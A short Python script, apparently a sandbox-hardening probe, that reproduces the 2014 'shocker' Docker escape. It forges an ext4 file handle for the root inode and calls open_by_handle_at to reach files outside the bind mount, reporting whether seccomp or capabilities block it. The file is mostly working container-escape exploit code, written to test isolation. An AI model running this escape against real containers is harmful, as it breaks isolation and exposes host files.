"""Attack: "shocker", the 2014 Docker escape — open_by_handle_at(2) opens any inode of a filesystem
by handle, outside the bind mount the sandbox was given. It needs CAP_DAC_READ_SEARCH."""
import ctypes
import errno
import json
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def in_child(action):
    """Runs action() in a forked child and returns its report, or how the child died: a seccomp
    kill (SIGSYS) is then observed instead of ending the whole script."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            report = action()
        except BaseException as error:
            report = {"succeeded": False, "exception": repr(error)}
        os.write(write_end, json.dumps(report).encode())
        os._exit(0)
    os.close(write_end)
    data = b""
    while True:
        chunk = os.read(read_end, 65536)
        if not chunk:
            break
        data += chunk
    os.close(read_end)
    _, status = os.waitpid(pid, 0)
    if not data:
        return {"succeeded": False, "signal": os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}
    return json.loads(data)


def raw_syscall(number, *args):
    """One raw syscall; ints travel as C longs so -1 and 64-bit values arrive intact."""
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ret = LIBC.syscall(ctypes.c_long(number), *converted)
    if ret == -1:
        code = ctypes.get_errno()
        return {"succeeded": False, "errno": errno.errorcode.get(code, str(code))}
    return {"succeeded": True, "ret": ret}


def attempt_syscall(number, *args):
    return in_child(lambda: raw_syscall(number, *args))

import struct

SYS_NAME_TO_HANDLE_AT = 303
SYS_OPEN_BY_HANDLE_AT = 304
AT_FDCWD = -100
MAX_HANDLE_SZ = 128


def handle_for(path):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", MAX_HANDLE_SZ, 0), 8 + MAX_HANDLE_SZ)
    mount_id = ctypes.c_int(0)
    report = raw_syscall(SYS_NAME_TO_HANDLE_AT, AT_FDCWD, path.encode(), handle, ctypes.byref(mount_id), 0)
    return report, handle


def main():
    report, handle = handle_for("/usr")
    if not report["succeeded"]:
        # Forge what shocker forged: an ext4 handle (FILEID_INO32_GEN) for inode 2, a root directory.
        handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0), 8 + MAX_HANDLE_SZ)
    mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    opened = attempt_syscall(SYS_OPEN_BY_HANDLE_AT, mount_fd, handle, os.O_RDONLY | os.O_DIRECTORY)
    os.close(mount_fd)
    return {"name_to_handle_at": report, "open_by_handle_at": opened}
